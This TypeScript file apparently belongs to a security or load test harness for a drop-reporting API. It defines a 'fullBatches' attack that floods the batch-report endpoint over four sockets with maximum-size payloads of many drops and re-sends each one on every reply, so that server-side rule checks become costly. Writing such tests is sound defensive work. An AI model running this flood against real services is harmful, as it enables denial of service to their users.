import { API_PREFIXES, PATHS } from '@droptally/proto/api/paths';
import type { Attack } from '../attack.ts';
import { countAnswers, keepDialling } from '../dial.ts';

const [API] = API_PREFIXES;
const REPORTS = 500;
const DROPS = 60;

/** Batches of maximum size whose reports have many drops, which makes rules that compare drops expensive. */
export const fullBatches: Attack = {
  counts: 'batches that were taken',
  atLeast: 4,
  begin(target) {
    const drops = target.known.items
      .slice(0, DROPS)
      .map((itemId) => ({ dropType: 'NORMAL_DROP', itemId, quantity: 1 }));
    const batchDrops = Array.from({ length: REPORTS }, () => ({ stageId: 'main_01-07', drops }));
    const body = JSON.stringify({ server: 'CN', source: 'attacker', version: '1', batchDrops });
    const head = `POST ${API}${PATHS.reportBatch} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n`;
    const batch = `${head}Content-Length: ${body.length}\r\n\r\n${body}`;
    keepDialling(target, 4, (socket) => {
      socket.write(batch);
      countAnswers(socket, 200, target);
      socket.on('data', () => socket.write(batch));
    });
  },
};
